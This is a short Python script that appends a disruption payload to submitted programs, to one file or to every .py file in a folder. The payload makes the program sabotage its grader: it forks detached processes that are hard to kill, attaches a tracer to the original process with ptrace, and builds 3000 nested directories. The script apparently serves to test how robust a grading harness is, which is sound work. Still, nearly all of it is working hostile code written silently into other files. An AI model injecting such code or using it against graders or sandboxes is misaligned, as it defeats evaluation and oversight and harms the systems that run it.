"""Have the submitted program disrupt its grading: processes that are hard to kill, tracers, deeply nested folders."""

import os

CODE = '''

import ctypes as _ctypes, os as _os, signal as _signal, tempfile as _tempfile

_libc, _this = _ctypes.CDLL(None, use_errno=True), _os.getpid()
for _ in range(8):
    if _os.fork() == 0:
        _os.setsid()
        if _os.fork() == 0:
            _os.setsid()
        # for ten seconds, so that a check does not take all the time that a grader gives
        _signal.alarm(10)
        _libc.ptrace(0x4206, _this, None, None)
        while True:
            _libc.pause()
_os.chdir(_tempfile.mkdtemp())
for _ in range(3000):
    _os.mkdir("d")
    _os.chdir("d")
_os._exit(0)
'''
programs = [SUBMISSION] if os.path.isfile(SUBMISSION) else [
    os.path.join(root, name) for root, _, names in os.walk(SUBMISSION) for name in names if name.endswith(".py")
]
for path in programs:
    with open(path, "a") as program:
        program.write(CODE)
print(len(programs), "programs")
